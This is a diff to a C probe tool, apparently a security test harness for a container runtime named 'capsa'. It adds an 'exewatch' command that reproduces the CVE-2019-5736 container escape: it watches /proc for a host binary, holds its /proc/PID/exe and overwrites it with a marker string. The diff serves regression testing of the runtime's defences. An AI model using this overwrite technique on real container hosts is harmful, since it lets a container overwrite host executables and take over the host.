@@ -856,6 +856,95 @@ static int cmd_exeattack(int argc, char **argv)
     return finish();
 }
 
+/* exewatch SECONDS: CVE-2019-5736 against a runtime that runs containers in-process (`capsa run`,
+ * `capsa exec`): watch /proc for a new process whose executable is none of the container's (not
+ * on /'s filesystem, not this probe), hold its /proc/PID/exe, and once that file is no longer busy
+ * reopen it for writing and write to it.  "ready" on stderr once the watch has begun.  "denied"
+ * counts the /proc/PID/exe opens refused (a non-dumpable process), "sealed" says whether what
+ * was held is a sealed memfd. */
+static int exe_is_foreign(int fd, const struct stat *root, const struct stat *self)
+{
+    struct stat st;
+    if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) || st.st_dev == root->st_dev)
+        return 0;
+    return !(st.st_dev == self->st_dev && st.st_ino == self->st_ino);
+}
+
+/* One pass over /proc: an O_PATH fd of a foreign executable, or -1. */
+static int exe_scan(const struct stat *root, const struct stat *self, int *denied)
+{
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    int held = -1;
+    while (d && held < 0 && (e = readdir(d)) != NULL) {
+        char path[64];
+        if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
+            continue;
+        snprintf(path, sizeof path, "/proc/%d/exe", atoi(e->d_name));
+        int fd = open(path, O_PATH | O_CLOEXEC);
+        if (fd < 0 && (errno == EACCES || errno == EPERM))
+            (*denied)++;
+        if (fd >= 0 && exe_is_foreign(fd, root, self))
+            held = fd;
+        else if (fd >= 0)
+            close(fd);
+    }
+    if (d)
+        closedir(d);
+    return held;
+}
+
+static int cmd_exewatch(int argc, char **argv)
+{
+    struct stat root, self;
+    if (argc != 3)
+        return fail("usage", "exewatch SECONDS");
+    if (stat("/", &root) < 0 || stat("/proc/self/exe", &self) < 0)
+        return fail("stat", "/");
+    time_t deadline = time(NULL) + atoi(argv[2]);
+    int denied = 0, held = -1, wfd = -1, e = 0, sealed = 0;
+    long written = -1;
+    fprintf(stderr, "ready\n");
+    fflush(stderr);
+    while (held < 0 && time(NULL) < deadline)
+        held = exe_scan(&root, &self, &denied);
+    char path[64];
+    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+    if (held >= 0) {
+        int r = open(path, O_RDONLY | O_CLOEXEC);
+        sealed = r >= 0 && fcntl(r, F_GET_SEALS) > 0;
+        if (r >= 0)
+            close(r);
+    }
+    while (held >= 0 && time(NULL) <= deadline) {
+        wfd = open(path, O_WRONLY | O_CLOEXEC);
+        if (wfd >= 0 || errno != ETXTBSY)
+            break;
+        usleep(10000);
+    }
+    if (held >= 0 && wfd < 0)
+        e = errno;
+    else if (wfd >= 0) {
+        written = write(wfd, "CAPSA-PWNED", 11);
+        if (written < 0)
+            e = errno;
+        close(wfd);
+    }
+    begin('{');
+    key("held");
+    v_bool(held >= 0);
+    key("sealed");
+    v_bool(sealed);
+    kv_int("denied", denied);
+    key("opened");
+    v_bool(wfd >= 0);
+    kv_int("written", written);
+    kv_int("errno", e);
+    kv_str("errname", errno_name(e));
+    end('}');
+    return finish();
+}
+
 /* udprecv PORT: wait (at most 20 s) for one UDP datagram on PORT and print it. */
 static int cmd_udprecv(int argc, char **argv)
 {
@@ -926,6 +1015,7 @@ static const struct {
     {"udprecv", cmd_udprecv, "PORT: print one UDP datagram received on PORT"},
     {"try", cmd_try, "OP ARGS: one privileged attempt (mknod, open, chown, init_module, ptrace, ...)"},
     {"exeattack", cmd_exeattack, "PID SECONDS: try to overwrite PID's executable once it is not busy"},
+    {"exewatch", cmd_exewatch, "SECONDS: overwrite the executable of the next process of another binary"},
 };
 
 static int usage(FILE *out)
